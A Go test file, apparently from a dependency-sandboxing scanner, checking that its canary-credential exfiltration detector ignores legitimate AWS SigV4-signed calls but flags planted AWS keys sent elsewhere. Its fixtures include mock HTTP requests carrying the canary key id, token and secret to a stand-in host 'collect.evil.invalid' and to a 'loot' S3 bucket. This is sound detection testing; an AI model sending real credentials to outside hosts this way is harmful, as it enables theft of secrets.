package scan

import (
	"math/rand/v2"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/depbox/depbox/internal/canary"
	"github.com/depbox/depbox/profiler"
)

// TestSigningIsNotExfiltration: an AWS SDK signing a call to AWS with the
// planted credentials sends the key id and session token where SigV4 puts
// them; that is not a canary leaving — also when the record names the
// host's sinkhole address. The same bytes to another host, the key id or
// token anywhere else, and the secret key anywhere still are.
func TestSigningIsNotExfiltration(t *testing.T) {
	c, err := canary.New(rand.NewChaCha8([32]byte{7}))
	if err != nil {
		t.Fatal(err)
	}
	id, secret, tok := c.Value("AWS_ACCESS_KEY_ID"), c.Value("AWS_SECRET_ACCESS_KEY"), c.Value("AWS_SESSION_TOKEN")
	signed := "POST / HTTP/1.1\r\nhost: sts.us-east-1.amazonaws.com\r\nx-amz-security-token: " + tok +
		"\r\nauthorization: AWS4-HMAC-SHA256 Credential=" + id + "/20261205/us-east-1/sts/aws4_request, SignedHeaders=host, Signature=abc\r\n\r\nAction=GetCallerIdentity"
	presigned := "GET /bucket/key?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=" + id + "%2F20261205%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Security-Token=" +
		url.QueryEscape(tok) + "&X-Amz-Signature=abc HTTP/1.1\r\nhost: bucket.s3.amazonaws.com\r\n\r\n"
	tests := []struct {
		name, dest, data string
		want             []string // canaries found
	}{
		{"SDK call to STS", "sts.us-east-1.amazonaws.com:443", signed, nil},
		{"presigned URL to S3", "bucket.s3.amazonaws.com:443", presigned, nil},
		{"the same request to another host", "collect.evil.invalid:443", signed, []string{"AWS_ACCESS_KEY_ID", "AWS_SESSION_TOKEN"}},
		{"credentials in the body, to S3", "loot.s3.amazonaws.com:443", "PUT /k HTTP/1.1\r\nhost: loot.s3.amazonaws.com\r\n\r\n" + id + ":" + secret,
			[]string{"AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"}},
		{"the secret key in the token header, to S3", "loot.s3.amazonaws.com:443", "PUT /k HTTP/1.1\r\nx-amz-security-token: " + secret + "\r\n\r\n",
			[]string{"AWS_SECRET_ACCESS_KEY"}},
		// A Python hook record of a TLS write names the sinkhole address.
		{"SDK call to STS, by its sinkhole address", "127.77.1.2:443", signed, nil},
		{"the same request to another host's sinkhole address", "127.77.9.9:443", signed, []string{"AWS_ACCESS_KEY_ID", "AWS_SESSION_TOKEN"}},
	}
	sinkholes := map[string]string{"127.77.1.2": "sts.us-east-1.amazonaws.com", "127.77.9.9": "collect.evil.invalid"}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			found := exfil(c, namedDestinations([]profiler.Outgoing{{Pkg: "node_modules/x", Channel: "network", Destination: tt.dest, Data: []byte(tt.data)}}, sinkholes))
			var got []string
			for _, e := range found["node_modules/x"] {
				if strings.HasPrefix(e.Destination, "127.77.") {
					t.Errorf("destination %s: a sinkhole address, not the name it stands for", e.Destination)
				}
				if !slices.Contains(got, e.Canary) {
					got = append(got, e.Canary)
				}
			}
			slices.Sort(got)
			if !slices.Equal(got, tt.want) {
				t.Errorf("canaries found %v, want %v", got, tt.want)
			}
		})
	}
}
